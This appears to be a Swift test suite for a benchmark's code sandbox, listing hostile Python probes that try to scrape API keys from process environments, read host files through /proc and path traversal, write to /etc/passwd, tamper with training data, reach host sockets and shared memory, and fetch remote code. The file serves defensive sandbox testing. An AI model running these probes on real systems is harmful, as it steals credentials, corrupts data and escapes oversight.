import Foundation

@testable import Sandbox

/// Attacks on what is around the program: files, keys, the network, other programs' memory.
extension HostileProgram {
    static let isolation = [
        HostileProgram(
            name: "reads a key from the environment",
            source: """
                found = [v for k, v in os.environ.items() if "KEY" in k]
                for id in filter(str.isdigit, os.listdir("/proc")):
                    try: found += [open(f"/proc/{id}/environ").read()]
                    except OSError: pass
                print(found); sys.stdout.flush()
                if not any("sk-" in text for text in found): raise KeyError("no key")
                """,
            control: .without([.ownEnvironment]),
            prepare: { _ in
                let secret = "sk-\(UUID().uuidString)"
                setenv("LLMBENCH_TEST_API_KEY", secret, 1)
                return Bait(secret: secret, cleanUp: { unsetenv("LLMBENCH_TEST_API_KEY") })
            }),
        HostileProgram(
            name: "reads a file of the host", source: readFirst, control: .without([.ownFiles]),
            prepare: { _ in try hostFile(in: URL(filePath: "/var/tmp")) }),
        HostileProgram(
            name: "reads what another run wrote", source: readFirst, control: .without([.ownFiles]),
            prepare: { fixture in try hostFile(in: fixture.folder) }),
        HostileProgram(
            name: "reads a file of root's that lies in a folder it is given",
            source: "print(open('/code/private').read())", control: .without([.ownUser, .noCapabilities]),
            needsRoot: true,
            prepare: { fixture in
                let secret = UUID().uuidString
                let file = fixture.code.appending(path: "private")
                try secret.write(to: file, atomically: false, encoding: .utf8)
                chmod(file.path, 0o600)
                return Bait(secret: secret)
            }),
        HostileProgram(
            name: "writes to its own code, which the next check would run",
            source: "open('/code/model.py', 'a').write('#'); success()", control: .without([.readOnlyFiles]),
            prepare: { fixture in
                let file = fixture.code.appending(path: "model.py")
                try "pass".write(to: file, atomically: false, encoding: .utf8)
                chmod(file.path, 0o666)
                return Bait()
            }),
        HostileProgram(
            name: "changes the data that all models are trained on",
            source: "open('/code/data.png', 'w').write('x'); success()",
            control: .asking { request in
                for index in request.mounts.indices { request.mounts[index].writable = true }
            },
            prepare: { fixture in
                let file = fixture.code.appending(path: "data.png")
                try "pixels".write(to: file, atomically: false, encoding: .utf8)
                chmod(file.path, 0o666)
                return Bait()
            }),
        HostileProgram(
            name: "links the data into its results, to change it there",
            source: """
                for data, link in (("/code/data.png", "/out/l"), ("/work/code/data.png", "/work/out/l")):
                    try: os.link(data, link); success(); sys.exit()
                    except OSError as error: last = error
                raise last
                """,
            control: .asking { request in
                let folder = request.mounts[0].host.deletingLastPathComponent()
                request.mounts.append(.init(host: folder, inside: "/work", writable: true))
            },
            prepare: { fixture in
                try "pixels".write(to: fixture.code.appending(path: "data.png"), atomically: false, encoding: .utf8)
                return Bait()
            }),
        HostileProgram(
            name: "writes into the system's folders",
            source: """
                for path in ["/x", "/usr/x", "/etc/passwd", "/etc/x", "/dev/x", "/proc/sys/kernel/core_pattern", "/x"]:
                    try:
                        open(path, "w").write("x")
                        success()
                    except OSError as error: last = error
                raise last
                """,
            control: .without([.readOnlyFiles])),
        HostileProgram(
            name: "leaves a file in /tmp for a later run",
            source: """
                open("/tmp/" + sys.argv[1], "w").write("payload")
                raise RuntimeError("left")
                """,
            control: .without([.ownTemporaryFolder]),
            prepare: { _ in
                let name = "left-\(UUID().uuidString)"
                return Bait(arguments: [name], secret: "/tmp/\(name)")
            },
            succeeded: { attempt in
                defer { unlink(attempt.bait.secret) }
                return access(attempt.bait.secret, F_OK) == 0
            }),
        HostileProgram(
            name: "reaches a server of the host",
            source: """
                for address in (("127.0.0.1", int(sys.argv[1])), ("::1", int(sys.argv[1]))):
                    try:
                        socket.create_connection(address, 2); success(); sys.exit()
                    except OSError as error: last = error
                raise last
                """,
            control: .without([.ownNetwork]), prepare: { _ in try tcpServer() }),
        HostileProgram(
            name: "reaches a program of the host by an abstract socket",
            source: """
                s = socket.socket(socket.AF_UNIX)
                s.connect("\\0" + sys.argv[1]); success()
                """,
            control: .without([.ownNetwork]), prepare: { _ in try abstractServer() }),
        HostileProgram(
            name: "asks the internet for more code",
            source: """
                import urllib.request
                print([name for name in open("/proc/net/dev").read().split() if name.endswith(":")], flush=True)
                interfaces = [l.split(":")[0].strip() for l in open("/proc/net/dev") if ":" in l]
                if interfaces != ["lo"]: success()
                urllib.request.urlopen("http://192.0.2.1/", timeout=1)
                """,
            control: .without([.ownNetwork])),
        HostileProgram(
            name: "reads shared memory of the host",
            source: """
                shm = _libc.shmget(int(sys.argv[1]), 64, 0)
                if shm < 0: raise OSError(ctypes.get_errno(), "shmget")
                _libc.shmat.restype = ctypes.c_void_p
                print(ctypes.string_at(_libc.shmat(shm, None, 0o10000), 36))
                """,
            control: .without([.ownIPC, .systemCallFilter]), prepare: { _ in sharedMemory() }),
        HostileProgram(
            name: "learns the machine's name",
            source: """
                print(socket.gethostname(), platform.node(), flush=True)
                if socket.gethostname() == "sandbox": raise ValueError("Error: no name")
                success()
                """,
            control: .without([.ownHostName])),
        HostileProgram(
            name: "learns where in the machine's control groups it is",
            source: """
                if os.readlink("/proc/self/ns/cgroup") == sys.argv[1]: success()
                else: raise ValueError("Error: another namespace")
                """,
            control: .without([.ownControlGroups]),
            prepare: { _ in
                Bait(arguments: [try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/ns/cgroup")])
            }),
    ]

    /// Prints the file named by its argument, wherever the host's root may be.
    private static let readFirst = """
        for prefix in ("", "/host", "/proc/1/root", "/proc/self/root/..", "/out/../.."):
            try: print(open(prefix + sys.argv[1]).read(), flush=True)
            except OSError as error: last = error
        raise last
        """

    private static func hostFile(in folder: URL) throws -> Bait {
        let secret = UUID().uuidString
        let file = folder.appending(path: "llmbench-test-\(UUID().uuidString)")
        try secret.write(to: file, atomically: false, encoding: .utf8)
        chmod(file.path, 0o644)
        return Bait(
            arguments: [file.path], secret: secret, cleanUp: { try? FileManager.default.removeItem(at: file) })
    }

    private static func tcpServer() throws -> Bait {
        let server = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = UInt32(0x7f00_0001).bigEndian
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let works = withUnsafeMutablePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { address in
                bind(server, address, length) == 0 && listen(server, 4) == 0
                    && getsockname(server, address, &length) == 0
            }
        }
        guard works else { throw SandboxError.broken(reason: "the test's server cannot listen") }
        return Bait(arguments: ["\(UInt16(bigEndian: address.sin_port))"], cleanUp: { close(server) })
    }

    /// A Unix socket in the abstract namespace, which belongs to the network namespace and to no folder.
    private static func abstractServer() throws -> Bait {
        let name = "llmbench-test-\(UUID().uuidString)"
        let server = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0)
        var address = sockaddr_un()
        address.sun_family = sa_family_t(AF_UNIX)
        withUnsafeMutableBytes(of: &address.sun_path) { $0[1...].copyBytes(from: name.utf8) }
        let length = socklen_t(MemoryLayout<sa_family_t>.size + 1 + name.utf8.count)
        let works = withUnsafePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(server, $0, length) == 0 }
        }
        guard works, listen(server, 4) == 0 else {
            throw SandboxError.broken(reason: "the test's server cannot listen")
        }
        return Bait(arguments: [name], cleanUp: { close(server) })
    }

    private static func sharedMemory() -> Bait {
        let secret = UUID().uuidString
        let key = key_t.random(in: 1 << 20..<1 << 30)
        let segment = shmget(key, 64, Int32(0o1666))
        if let place = shmat(segment, nil, 0) {
            place.copyMemory(from: secret, byteCount: secret.utf8.count)
            shmdt(place)
        }
        return Bait(arguments: ["\(key)"], secret: secret, cleanUp: { shmctl(segment, IPC_RMID, nil) })
    }
}
